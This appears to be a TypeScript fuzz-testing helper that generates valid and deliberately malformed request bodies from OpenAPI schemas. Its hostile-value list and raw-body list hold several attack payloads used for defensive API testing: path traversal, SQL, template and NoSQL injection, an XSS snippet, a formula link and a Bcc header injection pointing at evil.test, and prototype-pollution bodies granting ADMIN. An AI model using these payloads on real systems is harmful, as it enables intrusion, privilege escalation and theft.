/** Bodies generated from the OpenAPI schemas: valid ones, then invalid in one place. */
import type { Document, Schema } from '#test/documented.ts';
import { pick } from './target.ts';

export type Rich = Schema & {
  enum?: unknown[];
  const?: unknown;
  format?: string;
  minimum?: number;
  maxLength?: number;
  required?: string[];
  minItems?: number;
};

const DEEPEST = 6;

/** Resolves a schema that only references another one. */
export const resolve = (schema: Schema, document: Document): Rich =>
  schema.$ref
    ? resolve(document.components.schemas[schema.$ref.split('/').at(-1) ?? ''] ?? {}, document)
    : schema;

/** A value that the schema accepts, as far as the schema describes it. */
export function valueFor(schema: Schema | undefined, document: Document, depth = 0): unknown {
  if (!schema || depth > DEEPEST) return null;
  const rich = schema as Rich;
  if (rich.$ref)
    return valueFor(document.components.schemas[rich.$ref.split('/').at(-1) ?? ''], document, depth);
  if (rich.const !== undefined) return rich.const;
  if (rich.enum) return rich.enum[0];
  const [option] = rich.anyOf ?? rich.oneOf ?? [];
  if (option) return valueFor(option, document, depth + 1);
  if (rich.allOf)
    return Object.assign({}, ...rich.allOf.map((part) => valueFor(part, document, depth + 1) as object));
  const [type] = [rich.type].flat();
  switch (type) {
    case 'object':
      return Object.fromEntries(
        Object.entries(rich.properties ?? {}).map(([key, part]) => [
          key,
          valueFor(part, document, depth + 1),
        ]),
      );
    case 'array':
      return [valueFor(rich.items, document, depth + 1)];
    case 'integer':
    case 'number':
      return rich.minimum ?? 1;
    case 'boolean':
      return true;
    case 'string':
      return textFor(rich);
    default:
      return null;
  }
}

function textFor({ format }: Rich): string {
  if (format === 'uuid') return '3f2c5f6e-9d0b-4a55-9a1f-2f6f0d2b7a10';
  if (format === 'email') return 'fuzz@example.com';
  if (format === 'date') return '2026-11-18';
  if (format === 'date-time') return '2026-11-18T10:00:00.000Z';
  return 'Some words';
}

/** Values that commonly break programs. `undefined` removes the field. */
const deep = JSON.parse(`${'['.repeat(900)}${']'.repeat(900)}`) as unknown;
export const NASTY: readonly unknown[] = [
  undefined,
  null,
  '',
  ' ',
  '\0',
  'a\0b',
  '\u202Ex\u2066',
  '\uFFFE',
  'ﷺ'.repeat(300),
  '👨‍👩‍👧‍👦'.repeat(200),
  'x'.repeat(100_000),
  '../../etc/passwd',
  `' or 1=1; --`,
  '${7*7}{{7*7}}<%= 7*7 %>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.test")',
  'x\r\nBcc: thief@evil.test',
  '%00%0d%0a',
  '{"$gt":""}',
  '2026-02-30',
  '0000-00-00T00:00:00Z',
  '+99999-01-01T00:00:00Z',
  'NaN',
  '1e999',
  -1,
  -0,
  0.1,
  2 ** 31,
  2 ** 53,
  2 ** 64,
  1e308,
  true,
  [],
  [[]],
  {},
  { $gt: '' },
  { toString: 'x', length: -1 },
  { constructor: 1 },
  Array.from({ length: 2000 }, (_, n) => n),
  deep,
];

/** The value with one of its parts, at any depth, replaced by a hostile value. */
export function spoil(value: unknown, random: () => number): unknown {
  if (value === null || typeof value !== 'object' || random() < 0.25) return pick(random, NASTY.slice(1));
  const keys = Object.keys(value);
  if (keys.length === 0) return pick(random, NASTY.slice(1));
  const key = pick(random, keys);
  const inside = (value as Record<string, unknown>)[key];
  const isDeeper = inside !== null && typeof inside === 'object' && random() < 0.6;
  const spoiled = isDeeper ? spoil(inside, random) : pick(random, NASTY);
  return Array.isArray(value)
    ? value.map((part: unknown, n) => (String(n) === key ? spoiled : part))
    : { ...value, [key]: spoiled };
}

type Body = { body: string; type: string };

/** Bodies that are malformed as text, before any field is parsed. */
export const RAW_BODIES: readonly ((right: string) => Body)[] = [
  (right) => ({ body: right.slice(0, -1), type: 'application/json' }),
  (right) => ({ body: `${right}${right}`, type: 'application/json' }),
  (right) => ({ body: right.replace('{', '{"__proto__":{"role":"ADMIN"},'), type: 'application/json' }),
  (right) => ({
    body: right.replace('{', '{"constructor":{"prototype":{"role":"ADMIN"}},'),
    type: 'application/json',
  }),
  // Duplicate keys: some parsers use the second value, others the first.
  (right) => ({ body: right.replace(/^\{("[^"]+":)/, '{$1"first",$1'), type: 'application/json' }),
  (right) => ({ body: right, type: 'text/plain' }),
  (right) => ({ body: right, type: 'application/xml' }),
  (right) => ({ body: right, type: 'application/json; charset=utf-16' }),
  (right) => ({ body: right, type: 'multipart/form-data; boundary=x' }),
  (right) => ({ body: right, type: 'application/x-www-form-urlencoded' }),
  (right) => ({ body: right, type: '/' }),
  () => ({ body: `${'['.repeat(50_000)}`, type: 'application/json' }),
  () => ({ body: `{"a":${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}}`, type: 'application/json' }),
  () => ({ body: `"${'x'.repeat(300_000)}"`, type: 'application/json' }),
  () => ({ body: '\u0000', type: 'application/json' }),
  () => ({ body: '\uFEFF{}', type: 'application/json' }),
  () => ({ body: '[]', type: 'application/json' }),
  () => ({ body: 'null', type: 'application/json' }),
  () => ({ body: '1e1000', type: 'application/json' }),
];
